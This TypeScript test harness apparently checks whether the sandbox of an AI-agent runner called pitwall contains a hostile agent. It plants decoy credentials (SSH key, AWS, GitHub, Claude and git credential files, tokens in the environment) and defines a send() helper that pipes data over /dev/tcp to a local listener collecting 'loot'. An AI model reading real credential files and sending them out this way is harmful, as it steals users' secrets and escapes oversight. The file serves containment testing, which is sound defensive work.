// A person with secrets, a second worktree and a repository, on whose machine a hostile agent works.
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { dirname, join } from 'node:path';
import type { Containment } from '../../src/ports/processes.ts';
import { sightedWith } from '../support/process-sightings.ts';
import { passes } from '../support/run-results.ts';
import { RunScratch, root, type Said, Started } from '../support/run-scratch.ts';
import type { Try } from './try.ts';

export const branch = 'worktree-git-issue-1';
const secretFiles = [
  '.ssh/id_ed25519',
  '.netrc',
  '.aws/credentials',
  '.config/gh/hosts.yml',
  '.claude/credentials.json',
];
/** Far longer than any of these runs takes, also on a busy machine. */
const endlessMs = 5 * 60_000;
const result = { result: { summary: 'did it', commentBody: 'Done.' } };
const approval = { result: { action: 'APPROVED', commentBody: 'All is well.', dimensions: passes() } };
const configOf = (level: Containment) =>
  `workflow: quick\nsandbox: ${level === 'sandbox' ? 'required' : 'off'}\nsetup: []\nmaxGateBounces: 1\ncommands:\n  test: npm test\n  build: node build.mjs\n`;

export class Victim {
  readonly mark = `mark-${randomUUID()}`;
  readonly secret = `secret-${randomUUID()}`;
  readonly scratch: RunScratch;
  readonly #listener: Server;
  readonly #level: Containment;
  #loot = '';
  #said: Said | undefined;
  #isEndless = false;

  private constructor(scratch: RunScratch, level: Containment) {
    this.scratch = scratch;
    this.#level = level;
    this.#listener = createServer(socket => {
      socket.on('data', text => {
        this.#loot += text.toString('latin1');
      });
      socket.on('error', () => socket.destroy());
    });
  }

  static async make(level: Containment): Promise<Victim> {
    const victim = new Victim(await RunScratch.make('developer: []\n', configOf(level)), level);
    await new Promise<void>(listening => victim.#listener.listen(0, '127.0.0.1', listening));
    const { scratch } = victim;
    for (const name of secretFiles) victim.write(name, victim.secret);
    victim.write('.gitconfig', '[credential]\n\thelper = store\n');
    victim.write('.git-credentials', `https://ann:${victim.secret}@git.example.org\n`);
    victim.write('other project/notes.txt', victim.secret);
    Object.assign(scratch.env, {
      GH_TOKEN: victim.secret,
      NPM_TOKEN: victim.secret,
      AWS_SECRET_ACCESS_KEY: victim.secret,
    });
    scratch.write('package.json', '{"name":"x","type":"module","scripts":{"test":"node --test"}}');
    mkdirSync(join(scratch.repository, 'test'));
    scratch.write('test/base.test.js', "import test from 'node:test';\ntest('base', () => {});\n");
    scratch.write(
      'build.mjs',
      "import { readFileSync } from 'node:fs';\nif (readFileSync('work.txt', 'utf8').includes('bad')) throw new Error('bad work');\n",
    );
    scratch.write('work.txt', 'good\n');
    await scratch.run('add', '.');
    await scratch.run('commit', '--quiet', '-m', 'project');
    await scratch.run('worktree', 'add', '--quiet', '-b', 'mine', join(scratch.folder, 'mine'));
    writeFileSync(join(scratch.folder, 'mine', 'notes.txt'), 'of the person\n');
    return victim;
  }

  /** In the home folder. */
  write(name: string, text: string): void {
    mkdirSync(dirname(join(this.scratch.folder, name)), { recursive: true });
    writeFileSync(join(this.scratch.folder, name), text);
  }

  read(name: string): string {
    return readFileSync(join(this.scratch.folder, name), 'utf8');
  }

  loot(): string {
    return this.#loot;
  }

  /** Of the home folder. */
  names(): readonly string[] {
    return readdirSync(this.scratch.folder);
  }

  /** Whether the run had to be ended from outside. */
  wasEndless(): boolean {
    return this.#isEndless;
  }

  wasKilled(): boolean {
    return this.#said?.code === null || (this.#said?.code ?? 0) > 128;
  }

  processes(): number {
    return sightedWith(this.mark).length;
  }

  /** The whole run of an item whose developer makes this try. */
  async suffer(attempt: Try): Promise<Said> {
    const lines = `${this.#words()}\n${attempt.script}\n`;
    const shell = [{ run: lines }];
    const test = `import { execFileSync } from 'node:child_process';\nimport test from 'node:test';\ntest('try', () => { try { execFileSync('bash', ['-c', ${JSON.stringify(lines)}], { stdio: 'ignore' }); } catch {} });\n`;
    const steps = attempt.from === 'agent' ? shell : [{ edit: { path: 'test/try.test.js', text: test } }];
    const script = {
      developer: [{ edit: { path: 'work.txt', append: 'more\n' } }, ...steps, ...(attempt.steps ?? []), result],
      auditor: [approval],
    };
    this.scratch.write('.pitwall/script.yaml', JSON.stringify(script));
    await this.scratch.run('commit', '--quiet', '-am', 'script');
    this.#said = await this.pitwall('run', 'Add more', '--trust');
    return this.#said;
  }

  /** At the level `keeper` the programs that make namespaces are out of sight. */
  async pitwall(...args: string[]): Promise<Said> {
    const program = [join(root, 'pitwall'), ...args];
    const hide = ['unshare', 'bwrap'].map(name => `mount --bind /dev/null /usr/bin/${name} 2>&1 || true`).join('; ');
    const command =
      this.#level === 'keeper' ? ['unshare', '--mount', 'sh', '-c', `${hide}; exec "$0" "$@"`, ...program] : program;
    const { repository: cwd, env } = this.scratch;
    const child = spawn(command[0] ?? '', command.slice(1), { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
    const limit = setTimeout(() => {
      this.#isEndless = true;
      child.kill('SIGKILL');
    }, endlessMs);
    const said = await new Started(child).ended;
    clearTimeout(limit);
    return said;
  }

  #words(): string {
    const { port } = this.#listener.address() as AddressInfo;
    const { folder, repository } = this.scratch;
    const words = {
      H: folder,
      R: repository,
      G: join(repository, '.git'),
      S: join(folder, 'state'),
      P: join(root, 'pitwall'),
      MARK: this.mark,
    };
    const set = Object.entries(words).map(([name, value]) => `export ${name}='${value}'`);
    return [...set, `send() { bash -c 'cat > /dev/tcp/127.0.0.1/${port}'; }`].join('\n');
  }

  async remove(): Promise<void> {
    await new Promise(closed => this.#listener.close(closed));
    for (const { pid } of sightedWith(this.mark)) process.kill(pid, 'SIGKILL');
    this.scratch.remove();
  }
}
